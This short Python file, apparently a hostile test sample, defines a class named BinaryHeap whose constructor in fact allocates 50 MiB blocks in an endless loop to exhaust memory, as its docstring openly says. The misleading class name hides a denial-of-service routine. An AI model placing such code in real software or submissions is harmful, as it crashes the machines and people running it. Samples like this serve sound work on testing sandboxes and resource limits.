"""Hostile: eat all the memory there is."""


class BinaryHeap:
    def __init__(self):
        hoard = []
        while True:
            hoard.append(bytearray(50 * 2**20))
